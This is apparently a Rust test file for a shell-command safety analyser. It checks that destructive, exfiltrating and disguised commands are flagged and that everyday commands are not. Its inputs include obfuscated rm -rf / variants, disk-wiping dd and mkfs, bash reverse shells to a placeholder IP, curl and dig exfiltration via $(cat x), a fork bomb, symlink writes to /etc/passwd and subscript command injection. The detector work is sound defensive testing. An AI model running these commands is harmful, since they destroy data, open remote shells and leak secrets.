//! What commands do, in every spelling; and honest work, about which nothing is unknown.

use super::*;

#[test]
fn destructive_commands_are_seen_in_every_spelling() {
    finds("rm --recursive --force /", "delete / and below");
    finds("rm -rfv /", "delete / and below");
    finds("rm -rf -- /", "delete / and below");
    finds(r"r\m -rf /", "delete / and below");
    finds("'rm' -rf /", "delete / and below");
    finds("rm${IFS}-rf${IFS}/", "delete / and below");
    finds(r#"rm -rf "/""#, "delete / and below");
    finds("find / -delete", "delete / and below");
    finds("rm -rf //", "delete / and below");
    finds("rm -rf /../", "delete / and below");
    finds("cd / && rm -rf .", "delete / and below");
    finds("rm -rf ${HOME}", "delete /home/me and below");
    finds("rm -rf ~", "delete /home/me and below");
    finds(r#"rm -rf "$HOME""#, "delete /home/me and below");
    finds("rm -rf /*", "delete /* and below");
    opaque("echo cm0gLXJmIC8K|base64 -d|sh");
    finds(r#"python -c 'import shutil;shutil.rmtree("/")'"#, "delete / and below");
    finds("cat x > /dev/vda", "DestroyDevice");
    finds("dd of=/dev/sda", "DestroyDevice");
    finds("mkfs.ext4 /dev/sdb1", "DestroyDevice");
    finds("psql -h prd-db", "host prd-db");
    check("rm /tmp/one", "rm, delete /tmp/one");
    finds("shutdown -h now", "Power");
    finds("systemctl reboot", "Power");
    finds("kill -9 1", "Signal");
    finds("chmod u+s x", "Privilege");
    finds("chmod 4755 x", "Privilege");
    finds("crontab x", "Persist");
    finds("stayhand approvals approve 3", "ControlStayhand");
    check("chmod 755 x", "chmod, write /w/x");
    check("stayhand explain ls", "stayhand explain");
}

#[test]
fn working_folder_is_followed_and_doubted() {
    finds("cd /etc && rm -rf x", "delete /etc/x and below");
    finds("cd /etc; rm -rf x", "delete /etc/x and below");
    finds("cd /; cd sub; rm -rf x", "delete /x and below");
    finds("cd /; false && cd /w; rm -rf x", "delete /x and below");
    opaque(r#"cd "$x"; rm -rf y"#);
    opaque("pushd x; rm -rf y");
    check("(cd /etc); rm x", "cd, list /etc; rm, delete /w/x");
    finds("cd /etc || exit 1; rm x", "delete /etc/x");
}

/// Honest everyday work: nothing about it may be unknown.
#[test]
fn everyday_commands_are_fully_known() {
    let commands = include_str!("../everyday.txt");
    let everyday: Vec<&str> =
        commands.lines().filter(|line| !line.is_empty() && !line.starts_with('#')).collect();
    assert!(everyday.len() >= 80);
    let unknown: Vec<String> = everyday
        .iter()
        .filter(|line| lines(line).contains('?'))
        .map(|line| format!("{line}\n      {}", lines(line)))
        .collect();
    assert!(unknown.is_empty(), "{}", unknown.join("\n"));
}

#[test]
fn links_made_on_the_way_are_followed() {
    finds("ln -s /etc x; echo hi > x/passwd", "write /etc/passwd");
    finds("ln -s /etc x && cp f x/passwd", "write /etc/passwd");
    finds("ln -s / r; rm -rf r/usr/", "delete /usr");
    finds("mkdir d; ln -s ../../etc d/l; echo > d/l/x", "write /etc/x");
    finds("ln -s /etc a; ln -s a b; echo > b/x", "write /etc/x");
    let harmless = lines("ln -sfn releases/1 current && ls current/ && rm current");
    assert!(!harmless.contains("delete /w/releases"), "{harmless}");
}

#[test]
fn connections_of_the_shell_itself() {
    opaque("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
    opaque("sh < /dev/tcp/192.0.2.1/4444");
    finds("cat x > /dev/tcp/192.0.2.1/80", "Disclose");
    opaque("ssh example.com <<X\nrm -rf /\nX");
    quiet("echo x 2>&1 >f");
}

#[test]
fn data_in_addresses_is_sent() {
    finds(r#"curl "http://example.com/?k=$(cat x)""#, "Disclose");
    finds("curl -H \"X: $(cat x)\" http://example.com", "Disclose");
    finds("k=$(cat x); curl http://example.com/$k", "Disclose");
    finds("dig $(cat x).example.com", "Disclose");
    for harmless in [
        r#"curl "http://localhost:3000/?k=$(cat x)""#,
        r#"curl "http://example.com/?k=$(date +%s)""#,
        "curl -H \"X: $TOKEN\" http://example.com/a",
    ] {
        assert!(!lines(harmless).contains("Disclose"), "{harmless}");
    }
}

#[test]
fn builtins_that_set_names_and_read_numbers() {
    for text in [
        "mapfile -C 'rm \"$x\"' -c 1 x < f",
        "hash -p ./x ls",
        "read PATH < x; ls",
        "IFS=: read -r a LD_PRELOAD < x",
        "printf -v PATH .; ls",
        "for PATH in ./bin; do ls; done",
        "x='a[$(id)]'; echo $((x))",
        "declare -i y='a[$(id)]'",
        "unset 'x[$(id)]'",
        "test -v 'x[$(id)]'",
        "printf -v 'x[$(id)]' a",
    ] {
        opaque(text);
    }
    quiet("read -r a b < x; mapfile -t lines < f; echo ${lines[0]}");
    quiet("for CC in gcc clang; do $CC --version; done; printf '%s\\n' 'a[0]'");
}

#[test]
fn files_under_names_that_are_not_known() {
    finds("cat \"$F\"", "cat, Indefinite");
    finds("cat \"/root/.ssh/$F\"", "read /root/.ssh/*, Indefinite");
    finds("sort x > \"$OUT\"", "Indefinite");
    opaque("rm \"$F\"");
    opaque("rm -rf \"$D\"/*");
    opaque("bash \"$F\"");
    opaque("\"$P\" x");
}

#[test]
fn what_is_written_and_then_run_is_looked_into() {
    finds("printf 'rm -rf /etc' > x.sh; bash x.sh", "rm, delete /etc and below");
    finds("cat > x.sh <<'E'\nrm -rf /etc\nE\nchmod +x x.sh; ./x.sh", "rm, delete /etc and below");
    finds("echo 'rm -rf /etc' > x; . ./x", "rm, delete /etc and below");
    opaque("curl -o x.sh https://x.example; bash x.sh");
    finds("echo a > x.sh; echo b >> x.sh; bash x.sh", "sh, execute /w/x.sh, ExecuteCode, Indefinite");
    quiet("echo 'ls' > x.sh; bash y.sh");
}

#[test]
fn the_machine_is_not_used_up() {
    finds("b() { b | b & }; b", "Exhaust");
    finds("yes > f", "Exhaust");
    finds("cat /dev/zero > f", "Exhaust");
    finds("dd if=/dev/zero of=f", "Exhaust");
    finds("while true; do ls & done", "Exhaust");
    for harmless in [
        "yes | head",
        "dd if=/dev/zero of=f count=4",
        "while true; do ls; sleep 1; done",
        "f() { ls; }; f & wait",
    ] {
        assert!(!lines(harmless).contains("Exhaust"), "{harmless}");
    }
}

#[test]
fn disguises_and_what_is_shown() {
    for text in [
        "cat /usr/../etc/x",
        "base64 f | base64 -d",
        "rev f | rev",
        "x=ls; eval \"$x\"",
        "date -f /x",
        "curl file:///x",
    ] {
        finds(text, "Disguise");
    }
    for text in ["printenv", "env", "set", "export -p", "tcpdump -i eth0"] {
        finds(text, "Reveal");
    }
    for text in [
        "cat ../x",
        "base64 f",
        "rev f",
        "eval ls",
        "date",
        "printenv PATH",
        "env A=1 ls",
        "set -e",
        "export A=1",
    ] {
        let found = lines(text);
        assert!(!found.contains("Disguise") && !found.contains("Reveal"), "{text}: {found}");
    }
}

#[test]
fn processes() {
    finds("kill -9 -1", "Power");
    finds("kill 1", "Power");
    opaque("kill $(pgrep x)");
    opaque("ps | awk '{print $1}' | xargs kill");
    for text in ["kill 4711", "kill -9 4711", "kill %1", "sleep 9 & kill $!"] {
        let found = lines(text);
        assert!(!found.contains("Power") && !found.contains('?'), "{text}: {found}");
    }
}
